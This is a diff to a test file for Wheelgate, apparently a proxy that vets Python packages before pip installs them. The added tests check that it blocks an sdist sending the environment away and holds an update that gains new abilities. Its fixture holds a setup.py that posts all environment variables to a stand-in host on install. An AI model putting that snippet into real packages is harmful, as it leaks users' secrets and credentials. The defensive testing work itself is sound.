@@ -10,12 +10,23 @@ import { runWheelgate, type StartedGate, startGate } from './start-gate.ts';
 const DAY = 86_400_000;
 const daysAgo = (days: number) => new Date(Date.now() - days * DAY);
 
+/** Never run: the tests only ask for the file. */
+const STEALING = `import os, urllib.request
+from setuptools import setup
+urllib.request.urlopen('https://collector.example.invalid/', data=str(dict(os.environ)).encode())
+setup()
+`;
+
 let upstream: FakeIndex;
 let gate: StartedGate;
 
 function addWheel(project: string, version: string, days: number, over: Parameters<typeof aWheel>[0] = {}): string {
   const options = { project, version, ...over };
   return upstream.addFile(project, aWheelName(options), aWheel(options), { uploadTime: daysAgo(days) }).sha256;
+}
+
+function download(requirement: string): ReturnType<typeof pip> {
+  return pip(gate.indexUrl, 'download', '--no-deps', '--dest', '/tmp', requirement);
 }
 
 before(async () => {
@@ -28,6 +39,12 @@ before(async () => {
   addWheel('reqeusts', '2.0', 100);
   const sdist = { project: 'source-only', version: '1.0' };
   upstream.addFile('source-only', aSdistName(sdist), aSdist(sdist), { uploadTime: daysAgo(100) });
+  const stealing = { project: 'stealing', version: '1.0', setup: STEALING };
+  upstream.addFile('stealing', aSdistName(stealing), aSdist(stealing), { uploadTime: daysAgo(100) });
+  addWheel('growing', '1.0', 100);
+  addWheel('growing', '1.1', 50, {
+    files: { 'growing/__init__.py': 'import subprocess\nsubprocess.run(["uname"])\n' },
+  });
   gate = await startGate({ upstream: upstream.simpleUrl });
 });
 after(async () => {
@@ -64,10 +81,27 @@ test('a lookalike of a popular name is held', { skip: noPip }, async () => {
   assert.match(output, /held by Wheelgate: the name is one letter away from "requests"/);
 });
 
-test('an sdist is held before anything of it runs', { skip: noPip }, async () => {
-  const { code, output } = await pip(gate.indexUrl, 'download', '--no-deps', '--dest', '/tmp', 'source-only');
+test('an sdist whose code was read and is quiet is let in', { skip: noPip }, async () => {
+  const { code, output } = await download('source-only');
+  // pip builds metadata of an sdist on download, for which it may lack setuptools here: the gate's answer is what counts.
+  assert.doesNotMatch(output, /by Wheelgate/);
+  assert.match(output, /source_only-1\.0\.tar\.gz/, `exit code ${code}`);
+});
+
+test('an sdist that sends the environment away is blocked before anything of it runs', { skip: noPip }, async () => {
+  const { code, output } = await download('stealing');
   assert.notEqual(code, 0);
-  assert.match(output, /held by Wheelgate: an sdist: installing it runs its code/);
+  assert.match(output, /blocked by Wheelgate: the code .* when it is installed/);
+});
+
+test('an update that can do more than the approved release is held, and says against what', {
+  skip: noPip,
+}, async () => {
+  assert.equal((await pipInstall(gate.indexUrl, 'growing==1.0')).code, 0);
+  const { code, output } = await pipInstall(gate.indexUrl, 'growing==1.1');
+  assert.notEqual(code, 0);
+  assert.match(output, /held by Wheelgate: unlike 1\.0, /);
+  assert.equal((await pipInstall(gate.indexUrl, 'growing')).code, 0);
 });
 
 test('approving a held release makes the same command pass while the gate runs', { skip: noPip }, async () => {
